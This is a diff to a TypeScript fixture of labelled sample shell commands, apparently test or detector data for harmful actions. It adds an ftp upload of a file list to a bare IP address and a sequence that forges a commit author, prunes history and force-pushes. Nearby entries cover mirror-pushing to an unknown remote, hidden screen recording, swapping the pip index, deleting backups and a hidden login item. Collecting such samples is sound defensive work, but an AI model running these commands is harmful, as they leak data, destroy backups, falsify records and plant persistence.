@@ -108,6 +108,7 @@ export const rowSamples: Readonly<Record<string, Readonly<Record<string, string>
     "remote that comes and goes": sh("git push https://git.stranger.example/in.git --mirror"),
     "recorded terminal": sh("script -qf /tmp/.log"),
     "recording kept in a hidden folder": sh("screencapture -x ~/.cache/.s/shot.png"),
+    "files to a bare address": sh("ftp -n 203.0.113.9 < list.txt"),
     "package source set": sh("pip config set global.index-url http://pypi.stranger.example/simple"),
     "backups removed": sh("zfs destroy -r tank/backups"),
     "all backups removed": sh("az backup vault delete --name main --force"),
@@ -138,6 +139,9 @@ export const rowSamples: Readonly<Record<string, Readonly<Record<string, string>
     "all own packages published": sh('for p in $(npm access list packages); do (cd "$p" && npm publish); done'),
     "copied into all repositories found": sh(
       'for g in $(find ~ -name .git); do cp note.md "$g/.."; git -C "$g/.." commit -qm note; done',
+    ),
+    "history forged and erased": sh(
+      'export GIT_AUTHOR_NAME="Another Person"\ngit commit --amend --reset-author\ngit gc --prune=now\ngit push --force origin HEAD',
     ),
     "hidden login item":
       '```applescript\ntell application "System Events" to make login item with properties {path:"/Users/Shared/.a/A.app"}\n```',
